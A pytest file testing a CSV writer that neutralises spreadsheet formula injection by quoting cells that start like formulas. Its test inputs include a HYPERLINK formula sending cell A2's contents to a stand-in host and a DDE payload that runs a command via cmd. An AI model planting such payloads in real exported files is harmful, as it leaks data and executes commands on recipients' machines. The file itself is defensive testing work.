"""The site's CSV writer: a cell a spreadsheet would run as a formula comes out as text (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from decimal import Decimal

import pytest

from krokarm.lib import csvsafe


def written(*rows: Sequence[object]) -> list[list[str]]:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://elak.example/?"&A2;"Klicka")',
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote_in_front(typed: str) -> None:
    assert written([typed]) == [["'" + typed]]


def test_other_text_is_written_as_it_is() -> None:
    row = ["Arbetsförmedlingen", "Stöd till arbetssökande", "https://example.se/?a=1", "1+1", " =1", ""]
    assert written(row) == [row]


def test_a_formula_later_in_the_cell_is_left_alone_because_only_the_start_runs() -> None:
    assert written(["Summa =SUM(A1)"]) == [["Summa =SUM(A1)"]]


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert written([-3, 4, -1.5, Decimal("-2.25"), True, None]) == [["-3", "4", "-1.5", "-2.25", "True", ""]]


def test_text_that_looks_like_a_negative_number_is_still_text_with_a_quote() -> None:
    assert written(["-3"]) == [["'-3"]]


def test_quotes_and_separators_inside_a_defused_cell_are_still_escaped() -> None:
    assert written(['=A1,"x"']) == [['\'=A1,"x"']]


def test_the_dict_writer_defuses_values_and_keeps_the_header() -> None:
    buffer = io.StringIO()
    writer = csvsafe.DictWriter(buffer, fieldnames=["title", "count"], lineterminator="\r\n")
    writer.writeheader()
    writer.writerows([{"title": "=1+1", "count": -3}, {"title": "Rapport", "count": 2}])
    assert buffer.getvalue() == "title,count\r\n'=1+1,-3\r\nRapport,2\r\n"


def test_the_writer_returns_what_the_stream_returned_so_it_can_be_streamed() -> None:
    class Echo:
        def write(self, value: str) -> str:
            return value

    assert csvsafe.writer(Echo()).writerow(["@x", 1]) == "'@x,1\r\n"
